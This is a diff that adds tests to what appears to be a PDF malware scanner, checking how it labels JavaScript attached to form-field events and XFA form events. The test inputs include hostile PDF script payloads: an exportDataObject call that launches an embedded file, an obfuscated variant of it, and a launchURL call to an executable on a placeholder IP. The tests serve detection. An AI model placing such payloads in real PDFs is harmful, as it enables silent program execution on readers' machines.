@@ -147,6 +147,39 @@ suite('an action', () => {
     })
 })
 
+suite('the events of a field', () => {
+  const field = (event: string, source: string, rest = ''): Uint8Array =>
+    pdf([catalog(''), `<< /FT /Tx /T (a) ${rest} /AA << /${event} ${js(source)} >> >>`])
+  const EXPORT = 'this.exportDataObject({cName: "a", nLaunch: 2})'
+  for (const event of ['F', 'C', 'V', 'K', 'Fo', 'Bl'])
+    test(`${event} is no consent to start something`, () => {
+      assert.deepEqual(threats(field(event, EXPORT)), ['ScriptExport!'])
+      assert.deepEqual(threats(field(event, EXPORT.replace('.exportDataObject', '["export" + "DataObject"]'))), [
+        'ScriptExport!',
+      ])
+      assert.deepEqual(threats(field(event, 'app.launchURL("http://192.0.2.1/a.exe")')), ['AutomaticProgram!'])
+      assert.deepEqual(threats(field(event, 'event.value = AFMakeNumber(getField("b").value) * 2')), [])
+      assert.deepEqual(threats(field(event, 'app.launchURL("https://a.example/help")')), [])
+    })
+  for (const event of ['D', 'U'])
+    test(`${event} is a click, unless the field is as large as a page`, () => {
+      assert.deepEqual(threats(field(event, EXPORT, '/Rect [0 0 90 20]')), [])
+      assert.deepEqual(threats(field(event, EXPORT, '/Rect [0 0 600 700]')), ['ScriptExport!'])
+    })
+  test('of an XFA form', () => {
+    const form = (activity: string): Uint8Array =>
+      pdf([
+        catalog('/AcroForm << /XFA 2 0 R >>'),
+        stream(
+          '',
+          `<xdp:xdp><field><event activity="${activity}"><script contentType="application/x-javascript">${EXPORT}</script></event></field></xdp:xdp>`,
+        ),
+      ])
+    assert.ok(threats(form('exit')).includes('ScriptExport!'))
+    assert.ok(!threats(form('click')).includes('ScriptExport!'))
+  })
+})
+
 suite('a script', () => {
   const cases: [string, Uint8Array, string[]][] = [
     ['shows a message', script('app.alert("Hello")'), []],
